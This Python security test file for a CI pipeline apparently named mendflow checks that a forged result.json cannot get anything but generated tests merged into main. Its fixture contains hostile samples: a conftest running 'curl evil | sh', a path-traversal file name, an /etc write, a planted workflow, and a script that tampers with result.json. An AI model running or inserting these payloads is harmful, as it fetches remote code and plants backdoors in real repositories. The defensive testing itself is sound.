"""A forged test-generation ``result.json`` cannot get files into main.

The forgery: a watcher waits for the job to write ``result.json`` and replaces it with a claim that keeps a
source file, a root conftest, a CI workflow and an absolute path. Started by the repo's ``tests/conftest.py``
it cannot reach the result (the gates run sandboxed, the job's output directory is not writable there);
started from outside, as by a job already taken over, it does, and mendflow, which decided before the job ran
which test files it would accept, refuses all of it: the merged main may differ from the parent commit only
in those generated test files.
"""

from __future__ import annotations

import json
from pathlib import Path

import pygit2
import pytest

from flows.pipeline import self_healing_pipeline
from mendflow.contracts import DropReason, PipelineOutcome
from tests.fixtures.repos import commit_files
from tests.security.hostile import outside_watcher, repo_files

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("prefect_server", "mendflow_env")]

FORGED_FILES = {
    "src/calc/core.py": "raise SystemExit('owned')\n",
    "conftest.py": "import os\nos.system('id')\n",
    ".github/workflows/pwn.yml": "on: push\n",
    "/etc/mendflow-pwned": "x\n",
    "tests/../src/calc/__init__.py": "x = 1\n",
    "tests/conftest.py": "import os\nos.system('curl evil | sh')\n",  # under tests/, but never asked for
    "tests/test_backdoor.py": "def test_x():\n    pass\n",
}

# Rewrites the job's result.json with the forged claim, once per version the job writes.
TAMPER = """
def tamper(path):
    forged = json.load(open(os.path.join(HERE, "forged.json")))
    result = json.load(open(path))
    if set(forged) <= set(result["files"]):
        return
    result["files"].update(forged)
    result["kept"] += [{"node_id": p + "::test_x", "target": "x", "lines_gained": 99} for p in forged]
    with open(path + ".f", "w") as f:
        json.dump(result, f)
    os.replace(path + ".f", path)
"""


def merged_paths(repo: pygit2.Repository, parent: pygit2.Commit) -> set[str]:
    main = repo.branches.local["main"].peel(pygit2.Commit)
    return {patch.delta.new_file.path for patch in repo.diff(parent.tree, main.tree)}


def test_a_conftest_cannot_reach_the_jobs_result(calc_repo: Path) -> None:
    hostile = {**repo_files("mendflow_testgen", "result.json", TAMPER), "tests/forged.json": json.dumps(FORGED_FILES)}
    commit_files(calc_repo, hostile, "conftest")
    repo = pygit2.Repository(str(calc_repo))
    parent = repo.branches.local["main"].peel(pygit2.Commit)

    result = self_healing_pipeline(repo=str(calc_repo), branch="main")

    assert result.generated is not None and result.outcome is PipelineOutcome.MERGED
    assert not [d for d in result.generated.dropped if d.reason is DropReason.NOT_ASKED_FOR]
    assert merged_paths(repo, parent) == set(result.generated.files)


def test_forged_result_changes_nothing_but_the_generated_tests(calc_repo: Path, tmp_path: Path) -> None:
    (tmp_path / "forged.json").write_text(json.dumps(FORGED_FILES))
    repo = pygit2.Repository(str(calc_repo))
    parent = repo.branches.local["main"].peel(pygit2.Commit)

    watcher = outside_watcher("mendflow_testgen", "result.json", TAMPER, tmp_path)
    try:
        result = self_healing_pipeline(repo=str(calc_repo), branch="main")
    finally:
        watcher.kill()
        watcher.wait()

    assert result.generated is not None
    refused = {d.node_id for d in result.generated.dropped if d.reason is DropReason.NOT_ASKED_FOR}
    assert set(FORGED_FILES) <= refused, "the forgery never reached the trusted side; the test proves nothing"
    changed = merged_paths(repo, parent)
    assert changed == set(result.generated.files) and all(p.startswith("tests/") for p in changed)
    assert result.outcome is PipelineOutcome.MERGED
    assert not Path("/etc/mendflow-pwned").exists()
